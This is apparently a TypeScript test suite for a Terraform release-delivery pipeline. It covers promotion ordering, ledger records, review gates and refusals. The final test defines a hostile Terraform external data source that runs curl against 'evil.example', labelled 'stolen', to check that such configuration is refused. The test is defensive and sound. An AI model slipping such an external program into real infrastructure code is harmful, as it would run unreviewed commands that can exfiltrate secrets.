import type { Environment } from '../../../environments/schema/environment';
import { assemblyDigest } from '../../../delivery/model/assembly';
import type { Change } from '../../../delivery/model/change-set';
import { DeliveryError } from '../../../delivery/model/delivery-error';
import type { Outcome, Promotion } from '../../../delivery/model/promotion';
import { deliver as deliverBuilt, propose, refresh } from '../../../delivery/pipeline';
import type { World } from '../../../delivery/ports/world';
import { synth } from '../../../delivery/synth/synth';
import { digest, fakeWorld, release, stack } from '../../fakes/fake-world';
import { ledgerDraft } from '../../fakes/ledger-draft';
import { change } from '../../fakes/scripted-terraform';

/** An environment that only asks for an empty plan. */
function plain(environment: Environment): Environment {
  return { ...environment, promotion: { ...environment.promotion, verifications: [{ kind: 'empty-plan' }] } };
}

/** Builds a release, and delivers it. */
async function deliver(promotion: Omit<Promotion, 'assembly'>, world: World): Promise<Outcome> {
  return deliverBuilt({ ...promotion, assembly: await synth(promotion.release, world) }, world);
}

test('a release is applied, verified and recorded', async () => {
  const { world, terraform, ledger, environments } = fakeWorld({ a1: [stack('dev-lake'), stack('dev-warehouse')] });
  terraform.will('dev-lake', change('create')).will('dev-warehouse', change('create'));
  const outcome = await deliver({ release: release('a1'), environment: plain(environments[0]!) }, world);
  expect(outcome).toMatchObject({ kind: 'verified', applied: ['dev-lake', 'dev-warehouse'] });
  expect(await ledger.entries('dev')).toMatchObject([{ state: 'verified', release: { commit: 'a1' } }]);
});

test('a release is held while the environment before has not verified it, and nothing is touched', async () => {
  const { world, terraform, ledger, environments } = fakeWorld({ a1: [stack('staging-lake')] });
  const outcome = await deliver({ release: release('a1'), environment: plain(environments[1]!) }, world);
  expect(outcome).toMatchObject({
    kind: 'held',
    refusals: [{ rule: 'path', sentence: expect.stringContaining('a1 has not been verified in dev') as string }],
  });
  expect(terraform.calls).toEqual([]);
  expect(await ledger.entries('staging')).toEqual([]);
});

test('a release whose tree was verified under another commit may go on', async () => {
  const { world, ledger, environments } = fakeWorld({ squashed: [stack('staging-lake')] });
  const built = await synth(release('squashed'), world);
  const entry = await ledger.open(
    ledgerDraft({
      environment: 'dev',
      release: { commit: 'branch', tree: 'tree-of-squashed' },
      assembly: assemblyDigest(built),
    }),
  );
  await entry.settle('verified', []);
  const outcome = await deliver({ release: release('squashed'), environment: plain(environments[1]!) }, world);
  expect(outcome.kind).toBe('verified');
});

test('only stacks that differ from what was verified there are applied again, with what depends on them', async () => {
  const network = stack('dev-network');
  const airflow = stack('dev-airflow', { dependencies: ['dev-network'] });
  const { world, environments } = fakeWorld({
    a1: [network, airflow, stack('dev-lake')],
    b2: [{ ...network, digest: digest('dev-network 2') }, airflow, stack('dev-lake')],
  });
  const environment = plain(environments[0]!);
  await deliver({ release: release('a1'), environment }, world);
  const outcome = await deliver({ release: release('b2'), environment }, world);
  expect(outcome).toMatchObject({ applied: ['dev-network', 'dev-airflow'] });
});

test('a release that stands in an environment is left as it is', async () => {
  const { world, terraform, ledger, environments } = fakeWorld({ a1: [stack('dev-lake')] });
  const promotion = { release: release('a1'), environment: plain(environments[0]!) };
  await deliver(promotion, world);
  terraform.calls.length = 0;
  const again = await deliver({ ...promotion, release: { ...release('a1'), commit: 'a1' } }, world);
  expect(again).toMatchObject({ kind: 'standing', since: expect.any(String) as string });
  expect(terraform.calls).toEqual([]);
  expect(await ledger.entries('dev')).toHaveLength(1);
});

test('of two promotions at once of one release, one applies it and the other finds it there', async () => {
  const { world, terraform, ledger, environments } = fakeWorld({ a1: [stack('dev-lake')] });
  terraform.will('dev-lake', change('create'));
  const promotion = { release: release('a1'), environment: plain(environments[0]!) };
  const outcomes = await Promise.all([deliver(promotion, world), deliver(promotion, world)]);
  expect(outcomes.map(({ kind }) => kind).sort()).toEqual(['standing', 'verified']);
  expect(terraform.calls.filter((call) => call === 'apply dev-lake')).toHaveLength(1);
  expect((await ledger.entries('dev')).map(({ state }) => state).sort()).toEqual(['superseded', 'verified']);
});

test('ten releases at once are applied in their order, whatever order they come in', async () => {
  const line = Array.from({ length: 10 }, (_, i) => `m${i}`);
  const commits = Object.fromEntries(line.map((commit) => [commit, [stack('dev-lake', { digest: digest(commit) })]]));
  const { world, source, ledger, environments } = fakeWorld(commits);
  source.line.push(...line);
  const environment = plain(environments[0]!);
  const shuffled = [3, 1, 4, 0, 5, 9, 2, 6, 8, 7].map((at) => line[at]!);
  await Promise.all(shuffled.map((commit) => deliver({ release: release(commit), environment }, world)));
  const entries = await ledger.entries('dev');
  expect(entries.every(({ state }) => state === 'verified')).toBe(true);
  const byTurn = [...entries].sort((a, b) => a.turn! - b.turn!);
  expect(byTurn.map((entry) => entry.release.commit)).toEqual(line);
});

test('a release that was overtaken while it waited is superseded, and the ledger says by what', async () => {
  const commits = Object.fromEntries(
    ['m0', 'm1', 'm2'].map((commit) => [commit, [stack('dev-lake', { digest: digest(commit) })]]),
  );
  const { world, source, ledger, environments } = fakeWorld(commits);
  source.line.push('m0', 'm1', 'm2');
  const environment = plain(environments[0]!);
  await deliver({ release: release('m0'), environment }, world);
  await deliver({ release: release('m2'), environment }, world);
  const late = await deliver({ release: release('m1'), environment }, world);
  expect(late).toMatchObject({ kind: 'held', refusals: [{ rule: 'superseded' }] });
  await deliver({ release: release('m1'), environment }, world);
  const superseded = (await ledger.entries('dev')).filter(({ state }) => state === 'superseded');
  expect(superseded).toMatchObject([
    { release: { commit: 'm1' }, note: expect.stringContaining('m1 is older than m2') as string },
  ]);
});

test('a release that changes no stack is verified as it stands', async () => {
  const { world, terraform, environments } = fakeWorld({ a1: [stack('dev-lake')], b2: [stack('dev-lake')] });
  const environment = plain(environments[0]!);
  await deliver({ release: release('a1'), environment }, world);
  terraform.calls.length = 0;
  expect(await deliver({ release: release('b2'), environment }, world)).toMatchObject({
    kind: 'verified',
    applied: [],
  });
  expect(terraform.calls).toEqual([]);
});

test('after a failed apply the ledger says so, and the next delivery trusts nothing', async () => {
  const { world, terraform, ledger, environments } = fakeWorld({ a1: [stack('dev-lake'), stack('dev-warehouse')] });
  const environment = plain(environments[0]!);
  terraform.will('dev-lake', change('create')).breaks('dev-lake', new Error('AccessDenied'));
  await expect(deliver({ release: release('a1'), environment }, world)).rejects.toThrow('dev-lake: AccessDenied');
  expect(await ledger.entries('dev')).toMatchObject([{ state: 'failed' }]);
});

test('a first release that stopped goes on; a stack that something else has made is not taken for new', async () => {
  const { world, terraform, environments } = fakeWorld({ a1: [stack('dev-lake')] });
  const environment = plain(environments[0]!);
  terraform.will('dev-lake', change('create')).breaks('dev-lake', new Error('AccessDenied'));
  await expect(deliver({ release: release('a1'), environment }, world)).rejects.toThrow('AccessDenied');
  terraform.mends('dev-lake');
  expect(await deliver({ release: release('a1'), environment }, world)).toMatchObject({ kind: 'verified' });

  const other = fakeWorld({ a1: [stack('dev-lake')] });
  other.terraform.has('dev-lake', { address: 'aws_s3_bucket.raw', type: 'aws_s3_bucket', values: {} });
  other.terraform.will('dev-lake', change('delete', 'aws_s3_bucket.raw'));
  await expect(deliver({ release: release('a1'), environment }, other.world)).rejects.toMatchObject({
    code: 'Refused',
    message: expect.stringContaining('nobody reviewed a plan of dev-lake') as string,
  });
});

test('a stack whose plan was empty is planned again only where another was changed after it', async () => {
  const [first, second] = [stack('dev-lake'), stack('dev-warehouse', { dependencies: ['dev-lake'] })];
  const plansOf = async (changed: string) => {
    const { world, terraform, environments } = fakeWorld({ a1: [first, second] });
    terraform.will(changed, change('create'));
    await deliver({ release: release('a1'), environment: plain(environments[0]!) }, world);
    return terraform.calls.filter((call) => call.startsWith('plan')).sort();
  };
  expect(await plansOf('dev-lake')).toEqual(['plan dev-lake', 'plan dev-lake', 'plan dev-warehouse']);
  const all = ['plan dev-lake', 'plan dev-lake', 'plan dev-warehouse', 'plan dev-warehouse'];
  expect(await plansOf('dev-warehouse')).toEqual(all);
});

test('what a gate refuses after other stacks were applied is on the ledger as refused in part', async () => {
  const stacks = (version: string) =>
    ['dev-lake', 'dev-warehouse'].map((id) =>
      stack(id, { digest: digest(`${id} ${version}`), dependencies: id === 'dev-lake' ? [] : ['dev-lake'] }),
    );
  const { world, terraform, ledger, reviews, pullRequests, environments } = fakeWorld({
    main: stacks('1'),
    'head-of-bi': stacks('2'),
    'merge-of-1': stacks('2'),
  });
  const dev = plain(environments[0]!);
  await deliver({ release: release('main'), environment: dev }, world);
  terraform.will('dev-lake', change('update')).will('dev-warehouse', change('update'));
  const pull = await pullRequests.open({ branch: 'bi', base: 'main', title: 'Larger BI', body: '' });
  reviews.pull(1, pull.head);
  await propose(pull, world);
  reviews.merged(1, await pullRequests.merge(1, pull.head));
  terraform.will('dev-warehouse', change('delete'));
  const delivery = deliver({ release: release('merge-of-1'), environment: dev }, world);
  await expect(delivery).rejects.toMatchObject({ code: 'Refused' });
  expect(terraform.calls).toContain('apply dev-lake');
  expect((await ledger.entries('dev'))[0]).toMatchObject({ state: 'partial' });
});

test('an interruption is recorded as a failure and stays an interruption', async () => {
  const { world, terraform, ledger, environments } = fakeWorld({ a1: [stack('dev-lake')] });
  terraform.will('dev-lake', change('create')).breaks('dev-lake', new DeliveryError('Interrupted', 'stopped'));
  const delivery = deliver({ release: release('a1'), environment: plain(environments[0]!) }, world);
  await expect(delivery).rejects.toMatchObject({ code: 'Interrupted' });
  expect(await ledger.entries('dev')).toMatchObject([{ state: 'failed' }]);
});

test('a ledger that cannot be told of a failure does not hide it', async () => {
  const { world, terraform, ledger, environments } = fakeWorld({ a1: [stack('dev-lake')] });
  terraform.will('dev-lake', change('create')).breaks('dev-lake', new Error('AccessDenied'));
  const settle = () => Promise.reject(new DeliveryError('GitHubFailed', 'GitHub cannot be reached'));
  const open = ledger.open.bind(ledger);
  ledger.open = async (draft) => ({ ...(await open(draft)), settle });
  const delivery = deliver({ release: release('a1'), environment: plain(environments[0]!) }, world);
  await expect(delivery).rejects.toMatchObject({
    code: 'TerraformFailed',
    message: expect.stringMatching(/AccessDenied[^]*still says "applying": GitHub cannot be reached/) as string,
  });
});

test('a plan that is not empty after the apply leaves the release unverified', async () => {
  const { world, terraform, ledger, environments } = fakeWorld({ a1: [stack('dev-lake')] });
  terraform.will('dev-lake', change('update'));
  terraform.apply = () => Promise.resolve();
  const outcome = await deliver({ release: release('a1'), environment: plain(environments[0]!) }, world);
  expect(outcome).toMatchObject({ kind: 'unverified', evidence: [{ check: 'dev-lake: empty plan', holds: false }] });
  expect(await ledger.entries('dev')).toMatchObject([{ state: 'failed' }]);
});

describe('a proposed change', () => {
  const lake = stack('dev-lake');
  const changed = (id: string) => stack(id, { digest: digest(`${id} 2`) });

  /** A world where a pull request changes the warehouses of dev and prod, after both were delivered once. */
  async function proposed(changes: readonly Change[] = [change('update')]) {
    const fake = fakeWorld({
      main: [lake, stack('dev-warehouse'), stack('prod-warehouse')],
      'head-of-bi': [lake, changed('dev-warehouse'), changed('prod-warehouse')],
      'merge-of-1': [lake, changed('dev-warehouse'), changed('prod-warehouse')],
    });
    const { world, terraform, pullRequests, reviews, environments } = fake;
    await deliver({ release: release('main'), environment: plain(environments[0]!) }, world);
    terraform.calls.length = 0;
    terraform.will('dev-warehouse', ...changes).will('prod-warehouse', change('replace'));
    const pull = await pullRequests.open({ branch: 'bi', base: 'main', title: 'Larger BI', body: '' });
    reviews.pull(1, pull.head);
    const shown = await propose(pull, world);
    reviews.merged(1, await pullRequests.merge(1, pull.head));
    return { ...fake, shown, dev: plain(environments[0]!), merged: release('merge-of-1') };
  }

  test('is planned in every environment, only where it changes something, and shown', async () => {
    const { terraform, pullRequests, shown } = await proposed();
    expect(terraform.calls.sort()).toEqual(['plan dev-warehouse', 'plan prod-warehouse']);
    expect(shown.proposal).toMatchObject({ commit: 'head-of-bi', unaffected: 1 });
    expect(await pullRequests.commentOn(1)).toMatch(/\*\*replaced\*\* in `prod-warehouse`/);
  });

  test('says on its pull request who approved it, and when a push has put it out of date', async () => {
    const { world, pullRequests, reviews } = await proposed();
    const pull = await pullRequests.get(1);
    reviews.says(1, 'octocat', 'approve');
    await refresh(pull, world);
    expect(await pullRequests.commentOn(1)).toContain('**Approved** by `octocat`');
    await refresh({ ...pull, head: 'pushed-later' }, world);
    expect(await pullRequests.commentOn(1)).toContain('**Out of date:** the branch now stands at `pushed-later`');
    const merged = await pullRequests.commentOn(1);
    await refresh({ ...pull, isOpen: false }, world);
    expect(await pullRequests.commentOn(1)).toBe(merged);
  });

  test('is applied when its plans are still those that reviewers were shown', async () => {
    const { world, dev, merged } = await proposed();
    const outcome = await deliver({ release: merged, environment: dev }, world);
    expect(outcome).toMatchObject({ kind: 'verified', applied: ['dev-warehouse'] });
  });

  test('tells on its pull request how far it came, and how to go on where it failed', async () => {
    const { world, terraform, pullRequests, dev, merged } = await proposed();
    terraform.will('dev-warehouse', change('delete'));
    await expect(deliver({ release: merged, environment: dev }, world)).rejects.toMatchObject({ code: 'Refused' });
    const failed = await pullRequests.commentOn(1);
    expect(failed).toContain('**Failed** in `dev`');
    expect(failed).toContain('Still to be applied: `dev-warehouse`');
    expect(failed).toContain('npx sluice promote dev --release merge-of-1');
    terraform.will('dev-warehouse', change('update'));
    await deliver({ release: merged, environment: dev }, world);
    const applied = await pullRequests.commentOn(1);
    expect(applied).toMatch(/\*\*Applied\*\* to `dev`/);
    expect(applied).not.toContain('Failed');
    expect(applied).toContain('| `prod-warehouse` |');
  });

  test('is refused when somebody has changed the world since, and nothing is applied', async () => {
    const { world, terraform, ledger, dev, merged } = await proposed();
    terraform.will('dev-warehouse', change('update'), change('delete', 'snowflake_schema.RAW'));
    const delivery = deliver({ release: merged, environment: dev }, world);
    await expect(delivery).rejects.toMatchObject({
      code: 'Refused',
      message: expect.stringContaining('1 new delete') as string,
    });
    expect(terraform.calls).not.toContain('apply dev-warehouse');
    expect((await ledger.entries('dev'))[0]).toMatchObject({ state: 'refused', release: merged });
  });

  test('goes on with what is left of it after its apply has failed, and is refused where less is left for no reason', async () => {
    const { world, terraform, dev, merged } = await proposed([
      change('update'),
      change('create', 'snowflake_schema.X'),
    ]);
    const strict = { ...dev, review: { ...dev.review, harmless: [] } };
    const synthesize = world.synthesizer.synthesize.bind(world.synthesizer);
    world.synthesizer.synthesize = async (checkout) => ({ ...(await synthesize(checkout)), environments: [strict] });
    terraform.will('dev-warehouse', change('create', 'snowflake_schema.X'));
    const early = deliver({ release: merged, environment: strict }, world);
    await expect(early).rejects.toMatchObject({ code: 'Refused' });
    terraform.will('dev-warehouse', change('update'), change('create', 'snowflake_schema.X'));
    terraform.breaks('dev-warehouse', new Error('AccessDenied'));
    await expect(deliver({ release: merged, environment: strict }, world)).rejects.toThrow('AccessDenied');
    terraform.mends('dev-warehouse').will('dev-warehouse', change('create', 'snowflake_schema.X'));
    const outcome = await deliver({ release: merged, environment: strict }, world);
    expect(outcome).toMatchObject({
      kind: 'verified',
      accepted: expect.arrayContaining([expect.stringContaining('what an apply that stopped left')]) as string[],
    });
  });

  test('is refused when nobody was shown its plans', async () => {
    const { world, terraform, dev } = await proposed();
    const unseen = { ...release('merge-of-1'), commit: 'pushed-past-everybody' };
    world.source.checkout = () => Promise.resolve('merge-of-1');
    await expect(deliver({ release: unseen, environment: dev }, world)).rejects.toMatchObject({
      code: 'Refused',
      message: expect.stringContaining('nobody reviewed a plan of dev-warehouse') as string,
    });
    expect(terraform.calls).not.toContain('apply dev-warehouse');
  });

  test('is not planned where Terraform would run what nobody has reviewed', async () => {
    const { world, terraform, pullRequests } = fakeWorld({ main: [lake], 'head-of-bi': [changed('dev-lake')] });
    const stolen = { external: { secrets: { program: ['curl', 'https://evil.example'] } } };
    const configuration = world.synthesizer.configuration.bind(world.synthesizer);
    world.synthesizer.configuration = async (one) =>
      one.digest === lake.digest ? configuration(one) : { ...((await configuration(one)) as object), data: stolen };
    const pull = await pullRequests.open({ branch: 'bi', base: 'main', title: 'x', body: '' });
    const { proposal } = await propose(pull, world);
    expect(terraform.calls).toEqual([]);
    expect(proposal.environments[0]?.refusals[0]).toMatchObject({
      rule: 'policy',
      sentence: expect.stringContaining('dev-lake is not planned') as string,
    });
  });
});
